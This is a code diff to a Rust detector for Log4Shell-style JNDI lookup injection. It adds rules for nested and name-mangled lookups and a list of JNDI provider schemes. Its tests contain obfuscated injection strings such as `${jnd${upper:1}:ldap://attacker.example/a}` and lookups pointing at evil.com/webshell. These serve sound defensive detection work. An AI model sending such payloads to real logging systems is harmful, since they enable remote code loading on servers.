@@ -26,6 +26,11 @@ struct State {
     jndi: Option<String>,
     /// Lookups from `LOOKUPS` or `${:-x}` defaults were seen.
     lookup_syntax: bool,
+    /// A lookup was resolved inside another lookup.
+    nested: bool,
+    /// A lookup resolved to `<name>:<JNDI scheme>:/…` with a mangled name
+    /// (`${jnd${upper:1}:ldap://x}`): a JNDI lookup whichever way the name came out.
+    scheme: Option<String>,
     work: usize,
 }
 
@@ -49,7 +54,7 @@ pub fn scan(v: &Value<'_>, out: &mut Vec<Hit>) {
     let literal = super::textscan::contains_ci(t, "${jndi:");
     // Lookups that assemble `jndi:` outside a lookup (for a second evaluation pass).
     let assembled = st.lookup_syntax && super::textscan::contains_ci(&String::from_utf8_lossy(&resolved), "jndi:");
-    if let Some(ev) = st.jndi {
+    if let Some(ev) = st.jndi.or(st.scheme.filter(|_| st.lookup_syntax)) {
         let rule = if literal { "jndi.lookup" } else { "jndi.obfuscated-lookup" };
         push_once(out, since, hit(rule, CLASS, 5, 1, ev));
     } else if literal {
@@ -57,6 +62,9 @@ pub fn scan(v: &Value<'_>, out: &mut Vec<Hit>) {
         push_once(out, since, hit("jndi.lookup", CLASS, 5, 1, snippet(t, super::textscan::find_ci(t, "${jndi:").unwrap_or(0), 100)));
     } else if assembled {
         push_once(out, since, hit("jndi.obfuscated-lookup", CLASS, 5, 1, snippet(&String::from_utf8_lossy(&resolved), 0, 100)));
+    } else if st.lookup_syntax && st.nested {
+        // `${${::-${::-$${::-j}}}}`: obfuscating lookups nested in each other.
+        push_once(out, since, hit("jndi.nested-lookup", CLASS, 5, 1, snippet(&String::from_utf8_lossy(&bytes), first, first + 100)));
     } else if st.lookup_syntax {
         push_once(out, since, hit("jndi.lookup-syntax", CLASS, 3, 1, snippet(&String::from_utf8_lossy(&bytes), first, first + 100)));
     }
@@ -185,6 +193,9 @@ fn resolve(s: &[u8], depth: usize, st: &mut State) -> Vec<u8> {
             break;
         };
         let inner_raw = s.get(open + 2..close).unwrap_or_default();
+        if depth > 0 {
+            st.nested = true;
+        }
         let inner = if depth < MAX_DEPTH { resolve(inner_raw, depth + 1, st) } else { inner_raw.to_vec() };
         check_jndi(&inner, st);
         out.extend_from_slice(&evaluate(&inner, st));
@@ -200,6 +211,19 @@ fn check_jndi(inner: &[u8], st: &mut State) {
     if hit && st.jndi.is_none() {
         st.jndi = Some(format!("${{{}}}", snippet(&String::from_utf8_lossy(inner), 0, 100)));
     }
+    if st.scheme.is_none() && jndi_scheme_after_name(inner) {
+        st.scheme = Some(format!("${{{}}}", snippet(&String::from_utf8_lossy(inner), 0, 100)));
+    }
+}
+
+/// `name:ldap:/…`, `x1:rmi://…`: a short lookup name, then a JNDI provider URL.
+fn jndi_scheme_after_name(inner: &[u8]) -> bool {
+    let Some(colon) = inner.iter().take(16).position(|&c| c == b':') else { return false };
+    if colon == 0 || !inner.get(..colon).is_some_and(|n| n.iter().all(|c| c.is_ascii_alphanumeric())) {
+        return false;
+    }
+    let rest: Vec<u8> = inner.get(colon + 1..).unwrap_or_default().iter().take(10).map(|c| c.to_ascii_lowercase()).collect();
+    ["ldap:/", "ldaps:/", "rmi:/", "dns:/", "iiop:/", "corba:/", "nds:/", "nis:/", "iiopname:/"].iter().any(|p| rest.starts_with(p.as_bytes()))
 }
 
 /// Value of one resolved lookup body.
@@ -258,6 +282,12 @@ mod tests {
             "$&LBRACE;jndi:ldap://evil.com/webshell}",
             "$\\u0026lbracejndi:ldap://evil.com/webshell}",
             "j${sys:k5:-nD}${lower:i${web:k5:-:}}ldap://x/a",
+            // A mangled lookup name that still carries a JNDI provider URL.
+            "${jnd${upper:1}:ldap://attacker.example/a}",
+            "${jn${lower:D}x:rmi:/attacker.example/a}",
+            // Obfuscating lookups nested in each other, whatever they spell.
+            "${${::-${::-$${::-j}}}}",
+            "${${lower:${upper:x}}}",
         ] {
             assert!(rules(a).iter().any(|(_, s)| *s >= 5), "{a}: {:?}", rules(a));
         }
@@ -272,6 +302,11 @@ mod tests {
             "{\"a\":\"${x}\"}",
             "Total: $5 {approx}",
             "jndi is a java api",
+            // Spring-style nested placeholders and a plain LDAP URL.
+            "${server.port:${PORT:8080}}",
+            "${db.url:ldap://directory.example/}",
+            "ldap://directory.example/ou=people",
+            "${lower:ABC}",
         ] {
             assert!(rules(b).iter().all(|(_, s)| *s < 5), "{b}: {:?}", rules(b));
         }
